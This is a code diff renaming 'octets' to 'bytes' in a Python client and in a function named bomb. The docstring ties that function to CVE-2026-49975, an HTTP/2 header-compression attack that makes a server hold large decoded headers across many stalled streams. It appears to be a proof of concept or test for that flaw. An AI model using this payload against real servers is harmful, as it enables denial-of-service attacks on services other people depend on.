@@ -29,9 +29,9 @@ class Client:
         """What has come, whole frames only."""
         self.socket.settimeout(patience or 0.000001)
         try:
-            octets = self.socket.recv(1 << 20)
-            self.ended = not octets
-            self.received += octets
+            bytes = self.socket.recv(1 << 20)
+            self.ended = not bytes
+            self.received += bytes
         except (TimeoutError, BlockingIOError):
             pass
         except ConnectionError:
@@ -49,10 +49,10 @@ class Client:
 
 
 def bomb(port):
-    """CVE-2026-49975: few octets become large heads on as many streams as there may be, held by windows of zero that
-    single octets open."""
+    """CVE-2026-49975: few bytes become large heads on as many streams as there may be, held by windows of zero that
+    single bytes open."""
     client = Client(port, struct.pack(">HI", 4, 0))
-    large = b"\x40\x01a\x7f\xa1\x1e" + b"x" * 4000  # a literal of 4,000 octets that enters the dynamic table
+    large = b"\x40\x01a\x7f\xa1\x1e" + b"x" * 4000  # a literal of 4,000 bytes that enters the dynamic table
     first = GET + large + b"\xbe" * 13
     again = GET + b"\xbe" * 14
     for index in range(100):
